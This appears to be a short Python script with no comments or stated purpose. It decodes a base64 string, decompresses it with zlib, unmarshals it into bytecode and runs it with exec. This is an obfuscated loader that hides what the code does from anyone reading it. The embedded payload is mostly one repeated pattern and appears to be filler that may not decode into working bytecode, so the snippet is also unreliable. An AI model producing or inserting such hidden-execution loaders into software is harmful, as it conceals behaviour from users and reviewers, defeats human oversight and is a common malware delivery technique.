import marshal, zlib, base64
code = marshal.loads(zlib.decompress(base64.b64decode(
    "eJxLZmBgYGQAAmYGBiYGBg4GBgYGBgYGBgYGBgYGBgYGBgYGBgYGBgYGBgYGBgYGBgYGBgYGBgYGBgYGBgYGBgYGBgYGBgYGBgYGBgYGBgYGBgYGBgYGBgYGBgYGBgYGBgYGBgYGBgYGBgYGBgYGBgYGBgYGBgYGBgYGBgYGBgYGBgYGBgAAZzMF0A=="
)))
exec(code)
